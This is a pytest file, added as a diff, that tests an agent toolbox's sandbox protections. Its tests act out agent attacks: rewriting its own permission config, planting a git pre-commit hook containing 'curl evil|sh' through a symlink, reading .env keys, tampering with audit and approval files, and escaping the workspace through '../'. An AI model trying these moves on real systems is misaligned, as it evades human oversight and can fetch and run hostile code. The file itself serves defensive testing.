@@ -1,0 +1,156 @@
+"""Protections a broad allow cannot lift, and permission subjects that follow symlinks.
+
+Each test is an attack an agent could try against a real Toolbox: grant itself
+rights, run code on the next start, or get around a rule through a symlink.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from envelopes import err, ok
+from local_tools import Args, ToolContext, tool
+
+PLAIN_ALLOW = {"permissions": {"read:file": "allow", "write:file": "allow"}}
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "local-tools.toml",
+        ".local-tools/tools/evil.py",
+        ".git/config",
+        "sub/.git/hooks/pre-commit",
+    ],
+)
+def test_plain_allow_keeps_self_protection(make_toolbox: Any, workspace: Path, path: str) -> None:
+    (workspace / ".git").mkdir()
+    tb = make_toolbox(PLAIN_ALLOW)
+    msg = err(
+        tb.run("write_file", {"path": path, "content": "x", "overwrite": True}), "PERMISSION_DENIED"
+    )
+    assert "built-in protection" in msg
+    assert not (workspace / path).exists()
+
+
+def test_plain_allow_keeps_env_ask(make_toolbox: Any, workspace: Path) -> None:
+    (workspace / ".env").write_text("API_KEY=sk-live-123\n")
+    env = make_toolbox(PLAIN_ALLOW).run("read_file", {"path": ".env"})
+    err(env, "PERMISSION_DENIED")
+    assert "sk-live-123" not in str(env)
+
+
+def test_rule_naming_the_path_lifts_protection(make_toolbox: Any, workspace: Path) -> None:
+    (workspace / ".git").mkdir()
+    tb = make_toolbox({"permissions": {"write:file": {"*": "allow", ".git/*": "allow"}}})
+    ok(tb.run("write_file", {"path": ".git/info", "content": "x"}))
+    # a broad pattern with a leading wildcard does not
+    tb = make_toolbox({"permissions": {"write:file": {"*.py": "allow"}}})
+    err(
+        tb.run("write_file", {"path": ".local-tools/tools/x.py", "content": "x"}),
+        "PERMISSION_DENIED",
+    )
+
+
+def test_write_through_symlink_into_git_denied(tb: Any, workspace: Path) -> None:
+    (workspace / ".git" / "hooks").mkdir(parents=True)
+    (workspace / "scripts").mkdir()
+    (workspace / "scripts" / "hook.sh").write_text("#!/bin/sh\n")
+    (workspace / ".git" / "hooks" / "pre-commit").symlink_to("../../scripts/hook.sh")
+    err(
+        tb.run(
+            "write_file",
+            {"path": ".git/hooks/pre-commit", "content": "curl evil|sh", "overwrite": True},
+        ),
+        "PERMISSION_DENIED",
+    )
+    assert (workspace / ".git" / "hooks" / "pre-commit").is_symlink()
+    # and the other way round: an innocent name leading into .git
+    (workspace / "cfg").symlink_to(".git")
+    err(tb.run("write_file", {"path": "cfg/config", "content": "x"}), "PERMISSION_DENIED")
+    assert not (workspace / ".git" / "config").exists()
+
+
+def test_delete_rule_checks_the_link_itself(make_toolbox: Any, workspace: Path) -> None:
+    (workspace / "tmp").mkdir()
+    (workspace / "keep").mkdir()
+    (workspace / "tmp" / "scratch.txt").write_text("s")
+    (workspace / "keep" / "important").symlink_to("../tmp/scratch.txt")
+    tb = make_toolbox({"permissions": {"delete:file": {"*": "deny", "tmp/*": "allow"}}})
+    err(tb.run("file_delete", {"path": "keep/important"}), "PERMISSION_DENIED")
+    assert (workspace / "keep" / "important").is_symlink()
+    (workspace / "tmp" / "link").symlink_to("scratch.txt")
+    out = ok(tb.run("file_delete", {"path": "tmp/link"}))
+    assert out["path"] == "tmp/link"
+    assert out["type"] == "symlink"
+    assert (workspace / "tmp" / "scratch.txt").exists()
+
+
+@pytest.mark.parametrize("middle", ["exists", "missing"])
+def test_denied_folder_cannot_be_probed(make_toolbox: Any, workspace: Path, middle: str) -> None:
+    (workspace / "private" / "exists").mkdir(parents=True)
+    tb = make_toolbox({"permissions": {"read:file": {"*": "allow", "private/*": "deny"}}})
+    err(tb.run("file_stat", {"path": f"private/{middle}/../x"}), "PERMISSION_DENIED")
+
+
+def test_state_dir_inside_workspace_is_off_limits(make_toolbox: Any, workspace: Path) -> None:
+    state = workspace / ".state"
+    tb = make_toolbox(PLAIN_ALLOW | {"limits": {"max_output_lines": 5}}, state_dir=state)
+    tb.run("read_file", {"path": "nope"})
+    tb.close()
+    tb = make_toolbox(PLAIN_ALLOW | {"limits": {"max_output_lines": 5}}, state_dir=state)
+    approvals = next(state.rglob("workspaces/*"))
+    target = str((approvals / "approvals.json").relative_to(workspace))
+    err(tb.run("write_file", {"path": target, "content": "{}"}), "PERMISSION_DENIED")
+    err(tb.run("read_file", {"path": ".state/audit.sqlite"}), "PERMISSION_DENIED")
+    err(
+        tb.run("write_file", {"path": ".state/audit.sqlite", "content": "", "overwrite": True}),
+        "PERMISSION_DENIED",
+    )
+    assert (state / "audit.sqlite").stat().st_size > 0
+
+
+def test_config_file_in_use_is_protected(make_toolbox: Any, workspace: Path) -> None:
+    (workspace / ".agent").mkdir()
+    cfg = workspace / ".agent" / "tools.toml"
+    cfg.write_text('[permissions]\n"write:file" = "allow"\n')
+    tb = make_toolbox(str(cfg))
+    err(
+        tb.run("write_file", {"path": ".agent/tools.toml", "content": "x", "overwrite": True}),
+        "PERMISSION_DENIED",
+    )
+    assert "allow" in cfg.read_text()
+
+
+@tool("secret_dump", toolset="test", blocking=False)
+def secret_dump(args: Args, ctx: ToolContext) -> dict[str, str]:
+    """Prints a long secret."""
+    return {"text": "SECRET-OF-A\n" * 5000}
+
+
+def test_spilled_output_is_per_workspace(make_toolbox: Any, tmp_path: Path) -> None:
+    ws_a, ws_b = tmp_path / "a", tmp_path / "b"
+    ws_a.mkdir()
+    ws_b.mkdir()
+    tb_a = make_toolbox(workspace=ws_a, tools=[secret_dump])
+    spill = ok(tb_a.run("secret_dump"))["full_output_path"]
+    assert ok(tb_a.run("read_file", {"path": spill, "limit": 1}))["content"] == "SECRET-OF-A\n"
+    tb_b = make_toolbox(workspace=ws_b)
+    env = tb_b.run("read_file", {"path": spill})
+    err(env, "PERMISSION_DENIED")
+    assert "SECRET-OF-A" not in str(env)
+
+
+def test_config_root_decides_the_jail(make_toolbox: Any, tmp_path: Path) -> None:
+    proj = tmp_path / "proj"
+    (proj / "src").mkdir(parents=True)
+    (proj / "creds.txt").write_text("SECRET")
+    (proj / "local-tools.toml").write_text('[workspace]\nroot = "src"\n')
+    tb = make_toolbox(workspace=proj)
+    assert tb.workspace == (proj / "src").resolve()
+    env = tb.run("read_file", {"path": "../creds.txt"})
+    err(env, "PERMISSION_DENIED")
+    assert "SECRET" not in str(env)
